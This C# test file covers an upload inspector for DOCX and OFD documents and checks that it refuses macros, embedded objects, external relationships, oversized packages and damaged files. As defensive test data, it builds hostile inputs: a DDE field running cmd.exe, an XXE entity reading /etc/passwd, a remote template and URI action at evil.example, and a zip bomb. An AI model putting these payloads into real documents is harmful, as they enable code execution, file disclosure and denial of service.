using CommunityStation.Infrastructure.Documents;
using static CommunityStation.Web.Tests.Documents.TestPackages;

namespace CommunityStation.Web.Tests.Documents;

/// <summary>R4 documents in DOCX and OFD: checked by their structure, with no active content (no database needed).</summary>
public sealed class PackageInspectorTests
{
    private const long Limit = 10 * 1024 * 1024;
    private static readonly DocumentInspector Inspector = new();

    private static DocumentInspection Inspect(byte[] content, DocumentFormat format) => Inspector.Inspect(content, format);

    private static DomainException Refusal(byte[] content) => Assert.Throws<DomainException>(() => UploadedFile.Accept(content, Limit, Inspector));

    [Theory]
    [InlineData(DocumentFormat.Docx, "application/vnd.openxmlformats-officedocument.wordprocessingml.document", ".docx")]
    [InlineData(DocumentFormat.Ofd, "application/ofd", ".ofd")]
    public void R4_a_docx_without_macros_or_a_valid_ofd_is_accepted_with_its_type_and_extension(DocumentFormat format, string contentType, string extension)
    {
        var package = format == DocumentFormat.Docx ? Docx() : Ofd();
        var accepted = UploadedFile.Accept(package, Limit, Inspector);
        Assert.Equal(contentType, accepted.ContentType);
        Assert.Equal(extension, accepted.Extension);
        Assert.Equal(package, accepted.Content);
    }

    [Fact]
    public void R4_docx_with_internal_relationships_styles_and_a_picture_is_accepted()
    {
        var docx = Docx(
            ContentTypes(extra: """<Default Extension="png" ContentType="image/png"/><Override PartName="/word/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml"/>"""),
            Document("""<w:p><w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>"""),
            ("word/_rels/document.xml.rels", DocumentRels("""<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="media/image1.png"/>""")),
            ("word/styles.xml", """<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>"""),
            ("word/media/image1.png", "png"));
        Assert.Equal(DocumentVerdict.Clean, Inspect(docx, DocumentFormat.Docx).Verdict);
    }

    [Fact]
    public void R4_docm_with_macros_is_refused()
    {
        var docm = Docx(
            ContentTypes(DocmMainType, """<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>"""),
            null,
            ("word/_rels/document.xml.rels", DocumentRels("""<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>""")));
        Assert.Equal(DocumentVerdict.ActiveContent, Inspect(docm, DocumentFormat.Docx).Verdict);
        var refused = Refusal(docm);
        Assert.Equal("R4", refused.Rule);
        Assert.Equal("File", refused.Field);
        Assert.Contains("宏", refused.Template, StringComparison.Ordinal);
    }

    [Fact]
    public void R4_docx_hiding_a_vba_project_under_a_plain_content_type_is_refused()
    {
        var docx = Docx(null, null, ("word/vbaProject.bin", "Attribute VB_Name"));
        var inspection = Inspect(docx, DocumentFormat.Docx);
        Assert.Equal(DocumentVerdict.ActiveContent, inspection.Verdict);
        Assert.Contains("vbaProject.bin", inspection.Finding, StringComparison.Ordinal);
    }

    [Fact]
    public void R4_docx_with_a_macro_enabled_main_part_alone_is_refused() =>
        Assert.Equal(DocumentVerdict.ActiveContent, Inspect(Docx(ContentTypes(DocmMainType)), DocumentFormat.Docx).Verdict);

    [Theory]
    [InlineData("word/activeX/activeX1.xml")]
    [InlineData("word/embeddings/oleObject1.bin")]
    [InlineData("word/embeddings/Package.xlsm")]
    [InlineData("word/media/setup.exe")]
    public void R4_docx_with_activex_or_embedded_objects_is_refused(string part) =>
        Assert.Equal(DocumentVerdict.ActiveContent, Inspect(Docx(null, null, (part, "x")), DocumentFormat.Docx).Verdict);

    [Theory]
    [InlineData("""<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>""")]
    [InlineData("""<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="embeddings/x" />""")]
    [InlineData("""<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="http://tracker.example/p.png" TargetMode="External"/>""")]
    [InlineData("""<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" Target="page.mht"/>""")]
    public void R4_docx_with_a_relationship_that_brings_something_in_is_refused(string relationship)
    {
        var docx = Docx(null, null, ("word/_rels/document.xml.rels", DocumentRels(relationship)));
        Assert.Equal(DocumentVerdict.ActiveContent, Inspect(docx, DocumentFormat.Docx).Verdict);
    }

    [Fact]
    public void R4_docx_with_a_dde_field_split_over_runs_is_refused()
    {
        var body = """
            <w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
            """;
        var inspection = Inspect(Docx(null, Document(body)), DocumentFormat.Docx);
        Assert.Equal(DocumentVerdict.ActiveContent, inspection.Verdict);
        Assert.Equal("field DDEAUTO", inspection.Finding);
    }

    [Fact]
    public void R4_docx_with_a_dtd_is_unreadable()
    {
        // An XML external entity: the reader refuses DTDs outright.
        var document = """<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>""";
        Assert.Equal(DocumentVerdict.Unreadable, Inspect(Docx(null, document), DocumentFormat.Docx).Verdict);
    }

    [Fact]
    public void R4_docx_without_word_document_xml_is_unreadable()
    {
        var package = Zip(("[Content_Types].xml", ContentTypes()), ("_rels/.rels", PackageRels), ("word/other.xml", Document()));
        Assert.Equal(DocumentVerdict.Unreadable, Inspect(package, DocumentFormat.Docx).Verdict);
        Assert.Contains("无法读取", Refusal(package).Template, StringComparison.Ordinal);
    }

    [Fact]
    public void R4_ofd_with_a_leading_slash_in_its_doc_root_and_a_goto_bookmark_is_accepted()
    {
        var outline = """<ofd:Outlines><ofd:OutlineElem Title="第一章"><ofd:Actions><ofd:Action Event="CLICK"><ofd:Goto><ofd:Dest Type="XYZ" PageID="1"/></ofd:Goto></ofd:Action></ofd:Actions></ofd:OutlineElem></ofd:Outlines>""";
        Assert.Equal(DocumentVerdict.Clean, Inspect(Ofd(OfdMain("/Doc_0/Document.xml"), OfdDocument(outline)), DocumentFormat.Ofd).Verdict);
    }

    [Fact]
    public void R4_ofd_in_another_namespace_is_unreadable() =>
        Assert.Equal(DocumentVerdict.Unreadable, Inspect(Ofd(OfdMain(ns: "http://www.ofdspec.org")), DocumentFormat.Ofd).Verdict);

    [Theory]
    [InlineData("Doc_1/Document.xml")]
    [InlineData("../Doc_0/Document.xml")]
    [InlineData("Doc_0/Pages/Page_0/Content.xml")] // exists, but is a page, not a Document
    [InlineData("")]
    public void R4_ofd_whose_doc_root_is_not_an_existing_document_is_unreadable(string docRoot) =>
        Assert.Equal(DocumentVerdict.Unreadable, Inspect(Ofd(OfdMain(docRoot)), DocumentFormat.Ofd).Verdict);

    [Theory]
    [InlineData("""<ofd:Actions><ofd:Action Event="DO"><ofd:URI URI="https://evil.example/"/></ofd:Action></ofd:Actions>""", "URI")]
    [InlineData("""<ofd:Actions><ofd:Action Event="DO"><ofd:Movie ResourceID="9" Operator="Play"/></ofd:Action></ofd:Actions>""", "Movie")]
    [InlineData("""<ofd:Attachments>Attachs/Attachments.xml</ofd:Attachments>""", "Attachments")]
    public void R4_ofd_with_actions_that_reach_out_or_attachments_is_refused(string extra, string finding)
    {
        var ofd = Ofd(null, OfdDocument(extra));
        var inspection = Inspect(ofd, DocumentFormat.Ofd);
        Assert.Equal(DocumentVerdict.ActiveContent, inspection.Verdict);
        Assert.Equal(finding, inspection.Finding);
        Assert.Contains("OFD", Refusal(ofd).Template, StringComparison.Ordinal);
    }

    [Fact]
    public void R4_ofd_carrying_a_script_file_is_refused() =>
        Assert.Equal(DocumentVerdict.ActiveContent, Inspect(Ofd(null, null, ("Doc_0/Res/run.js", "alert(1)")), DocumentFormat.Ofd).Verdict);

    [Fact]
    public void R4_a_zip_bomb_is_refused_before_it_is_unpacked()
    {
        // 8 MB of zeros packs into a few kilobytes: far past any ratio a real document has.
        var bomb = Zip(("OFD.xml", System.Text.Encoding.UTF8.GetBytes(OfdMain())), ("Doc_0/Document.xml", System.Text.Encoding.UTF8.GetBytes(OfdDocument())), ("Doc_0/Res/zeros.xml", new byte[8 * 1024 * 1024]));
        Assert.True(bomb.Length < 100_000);
        Assert.Equal(DocumentVerdict.PackageTooLarge, Inspect(bomb, DocumentFormat.Ofd).Verdict);
        Assert.Contains("展开后过大", Refusal(bomb).Template, StringComparison.Ordinal);
    }

    [Fact]
    public void R4_a_package_with_too_many_parts_is_refused()
    {
        var parts = Enumerable.Range(0, UploadedFile.MaxPackageEntries + 1).Select(i => ($"word/media/p{i}.png", "x")).ToArray();
        var docx = Docx(null, null, parts);
        Assert.Equal(DocumentVerdict.PackageTooLarge, Inspect(docx, DocumentFormat.Docx).Verdict);
    }

    [Fact]
    public void R4_a_zip_that_is_neither_docx_nor_ofd_is_refused_as_a_format()
    {
        var refused = Refusal(Zip(("readme.txt", "hello")));
        Assert.Contains("DOCX", refused.Template, StringComparison.Ordinal);
    }

    [Fact]
    public void R4_a_package_that_is_both_ofd_and_ooxml_is_refused()
    {
        var both = Zip(("OFD.xml", OfdMain()), ("Doc_0/Document.xml", OfdDocument()), ("[Content_Types].xml", ContentTypes()), ("word/document.xml", Document()));
        Assert.Contains("只接受", Refusal(both).Template, StringComparison.Ordinal);
    }

    [Fact]
    public void R4_a_damaged_package_is_unreadable()
    {
        var docx = Docx();
        var damaged = docx[..(docx.Length / 2)];
        Assert.Equal(DocumentVerdict.Unreadable, Inspect(damaged, DocumentFormat.Docx).Verdict);
    }
}
